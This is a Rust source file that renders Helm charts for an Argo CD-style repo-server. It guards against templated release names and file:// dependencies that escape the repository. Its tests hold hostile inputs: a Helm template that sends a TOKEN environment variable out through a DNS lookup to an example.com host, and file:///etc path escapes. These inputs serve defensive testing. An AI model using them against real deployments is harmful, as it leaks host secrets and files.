//! Rendering a chart: `helm template`, as Argo CD's repo-server calls it (`util/helm/cmd.go`, `template`).
//!
//! Values go in through standard input. What they are is decided elsewhere; sealed ones stay sealed, as the key is
//! Argo CD's.

use std::collections::BTreeMap;
use std::fmt;
use std::io;
use std::path::Path;
use std::time::Duration;

use programs::error::{Cause, Error};
use programs::helm::Helm;
use programs::run::{Ended, Program};
use serde::Deserialize;
use serde_json::Value;

use super::contents::write;
use super::path;
use super::{Contents, Unfetched};

/// How long one step of Helm may take.
const DEADLINE: Duration = Duration::from_secs(180);
/// Bytes of manifests at most: 64 MiB.
const LIMIT: usize = 64 << 20;
/// How deep charts of one repository may lie in each other.
const DEPTH: usize = 5;

/// How a chart is rendered.
#[derive(Clone, Default)]
pub(crate) struct Rendering {
    /// Name of the release.
    pub release: String,
    /// Namespace of the release.
    pub namespace: String,
    /// All values over the chart's own, merged, as YAML or JSON.
    pub values: String,
    /// Version of Kubernetes that the chart is told; empty: Helm's own.
    pub kube_version: String,
    /// API versions that the chart is told to be served.
    pub api_versions: Vec<String>,
    /// Whether the chart's CRDs are left out.
    pub skip_crds: bool,
    /// Whether tests are left out.
    pub skip_tests: bool,
    /// Whether values need not fit the chart's schema.
    pub skip_schema_validation: bool,
}

impl fmt::Debug for Rendering {
    /// Writes no values.
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut writer = formatter.debug_struct("Rendering");
        writer
            .field("release", &self.release)
            .finish_non_exhaustive()
    }
}

/// Renders the chart in a folder of a source.
pub(super) fn render(
    helm: &Helm,
    files: &Contents,
    folder: &str,
    rendering: &Rendering,
    offline: bool,
) -> Result<String, Unfetched> {
    let told = |error: &Error| Unfetched::rendering(&rendering.release, error);
    refuse_template(&rendering.release).map_err(|error| told(&error))?;
    let unkept = |error: io::Error| {
        let sentence = format!("the chart cannot be written to a folder for Helm: {error}");
        told(&Error::new(Cause::Unusable, sentence))
    };
    let scratch = tempfile::tempdir().map_err(unkept)?;
    let mut laid_out = BTreeMap::new();
    gather(files, folder, 0, &mut laid_out)?;
    write(&laid_out, scratch.path()).map_err(unkept)?;
    let chart = scratch
        .path()
        .join(path::normal(folder).unwrap_or_default());
    let first = template(helm, &chart, rendering);
    let rendered = match first {
        Err(error) if lacks_dependencies(&error) && !offline => {
            let folder = path::normal(folder).unwrap_or_default();
            refuse_outside(&laid_out, &folder).map_err(|error| told(&error))?;
            let built = helm.command("dependency").arguments(["build", "."]);
            run(built.folder(&chart)).map_err(|error| told(&error))?;
            template(helm, &chart, rendering)
        }
        outcome => outcome,
    };
    let ended = rendered.map_err(|error| told(&error))?;
    String::from_utf8(ended.answer)
        .map_err(|_| unkept(io::Error::other("its manifests are no text")))
}

/// Refuses a release name that Helm would fill in: `--name-template` knows `env` and `getHostByName` (Helm's
/// `TemplateName`), so that whoever writes an Application could send the reader's environment away.
fn refuse_template(release: &str) -> Result<(), Error> {
    match release.contains("{{") {
        true => Err(Error::new(
            Cause::Unusable,
            "its release name is a template, which Helm would fill in with what it finds on this machine",
        )
        .next("see who wrote spec.source.helm.releaseName, and set a plain name")),
        false => Ok(()),
    }
}

fn template(helm: &Helm, chart: &Path, rendering: &Rendering) -> Result<Ended, Error> {
    let asked = helm
        .command("template")
        .arguments([".", "--name-template", &rendering.release])
        .folder(chart);
    let asked = flag(asked, "--namespace", &rendering.namespace);
    let asked = flag(asked, "--kube-version", &rendering.kube_version);
    let versions = rendering.api_versions.iter();
    let asked = versions.fold(asked, |asked, version| {
        flag(asked, "--api-versions", version)
    });
    let asked = switch(asked, "--include-crds", !rendering.skip_crds);
    let asked = switch(asked, "--skip-tests", rendering.skip_tests);
    let asked = switch(
        asked,
        "--skip-schema-validation",
        rendering.skip_schema_validation,
    );
    let asked = asked.arguments(["--values", "-"]);
    run(asked.input(rendering.values.clone()))
}

fn flag(asked: Program, name: &str, value: &str) -> Program {
    match value {
        "" => asked,
        value => asked.argument(name).argument(value),
    }
}

fn switch(asked: Program, name: &str, on: bool) -> Program {
    match on {
        true => asked.argument(name),
        false => asked,
    }
}

fn run(asked: Program) -> Result<Ended, Error> {
    asked.deadline(DEADLINE).limit(LIMIT).run()
}

/// Says whether Helm misses charts that this one depends on (Argo CD's `IsMissingDependencyErr`).
fn lacks_dependencies(error: &Error) -> bool {
    let said = error.to_string();
    said.contains("missing in charts")
}

/// Files that say what a chart depends on; `helm dependency build` goes by the locks where there are any.
const DEPENDENCIES: [&str; 4] = [
    "Chart.yaml",
    "Chart.lock",
    "requirements.yaml",
    "requirements.lock",
];

/// Refuses a chart that depends on a folder of this machine (`file:///…`, `file://../../…`): Helm would read all of it.
///
/// Every text of these files counts, whatever its key: Helm does not tell `Repository` from `repository`.
fn refuse_outside(files: &BTreeMap<String, Vec<u8>>, folder: &str) -> Result<(), Error> {
    for name in DEPENDENCIES {
        let Some(text) = files.get(&path::join(folder, name)) else {
            continue;
        };
        let said = serde_saphyr::from_slice(text)
            .map_err(|_| unusable(format!("its {name} cannot be read")))?;
        if let Some(outside) = outside(&said, folder) {
            let sentence = format!("its {name} names {outside}, which lies outside its repository");
            return Err(unusable(sentence));
        }
    }
    Ok(())
}

fn outside<'a>(said: &'a Value, folder: &str) -> Option<&'a str> {
    match said {
        Value::String(text) => {
            let place = text.strip_prefix("file://")?;
            let inside =
                !place.starts_with('/') && path::normal(&path::join(folder, place)).is_some();
            (!inside).then_some(text)
        }
        Value::Array(items) => items.iter().find_map(|item| outside(item, folder)),
        Value::Object(fields) => fields.values().find_map(|field| outside(field, folder)),
        _ => None,
    }
}

fn unusable(sentence: String) -> Error {
    Error::new(Cause::Unusable, sentence)
}

/// What a chart depends on, as far as it is needed.
#[derive(Default, Deserialize)]
#[serde(default)]
struct Metadata {
    dependencies: Option<Vec<Dependency>>,
}

#[derive(Default, Deserialize)]
#[serde(default)]
struct Dependency {
    repository: Option<String>,
}

/// Gathers a chart and the charts beside it that it depends on (`file://../common`), each at its own path.
fn gather(
    files: &Contents,
    folder: &str,
    depth: usize,
    gathered: &mut BTreeMap<String, Vec<u8>>,
) -> Result<(), Unfetched> {
    let folder = path::normal(folder).unwrap_or_default();
    let chart = files.folder(&folder)?;
    let beside = beside(&chart, &folder);
    let places = chart.into_iter();
    gathered.extend(places.map(|(path, bytes)| (path::join(&folder, &path), bytes)));
    for other in beside {
        let file = path::join(&other, "Chart.yaml");
        if depth < DEPTH && !gathered.contains_key(&file) {
            gather(files, &other, depth + 1, gathered)?;
        }
    }
    Ok(())
}

fn beside(chart: &BTreeMap<String, Vec<u8>>, folder: &str) -> Vec<String> {
    let text = chart
        .get("Chart.yaml")
        .map(Vec::as_slice)
        .unwrap_or_default();
    let metadata: Metadata = serde_saphyr::from_slice(text).unwrap_or_default();
    let dependencies = metadata.dependencies.unwrap_or_default().into_iter();
    let local = dependencies.filter_map(|dependency| {
        let path = dependency.repository?;
        path::normal(&path::join(folder, path.strip_prefix("file://")?))
    });
    local.collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(release: &str) -> String {
        let chart = BTreeMap::from([("Chart.yaml".to_owned(), b"name: web".to_vec())]);
        let files = Contents::of_archive("1.0.0".to_owned(), chart);
        let rendering = Rendering {
            release: release.to_owned(),
            ..Rendering::default()
        };
        let rendered = render(&Helm::at("/no/helm"), &files, "", &rendering, true);
        rendered.unwrap_err().gap().message
    }

    #[test]
    fn a_chart_that_depends_on_a_folder_of_this_machine_is_refused() {
        let refused = |name: &str, text: &str| {
            let files = BTreeMap::from([(format!("charts/web/{name}"), text.as_bytes().to_vec())]);
            refuse_outside(&files, "charts/web").is_err()
        };
        let on =
            |repository: &str| format!("dependencies: [{{name: a, repository: {repository:?}}}]");
        for outside in ["file:///etc", "file:///", "file://../../../etc"] {
            assert!(refused("Chart.yaml", &on(outside)), "{outside}");
            assert!(refused("Chart.lock", &on(outside)), "{outside}");
        }
        for inside in ["file://../common", "https://charts.example.com", ""] {
            assert!(!refused("Chart.yaml", &on(inside)), "{inside}");
        }
        assert!(refused(
            "requirements.yaml",
            "Dependencies: [{Repository: file:///}]"
        ));
        assert!(refused("Chart.yaml", "a: [unclosed"));
    }

    #[test]
    fn a_release_name_that_helm_would_fill_in_is_refused() {
        let stolen = r#"{{ getHostByName (printf "%s.example.com" (env "TOKEN")) }}"#;
        assert!(said(stolen).contains("is a template"), "{}", said(stolen));
        assert!(said("web").contains("/no/helm"), "{}", said("web"));
    }
}
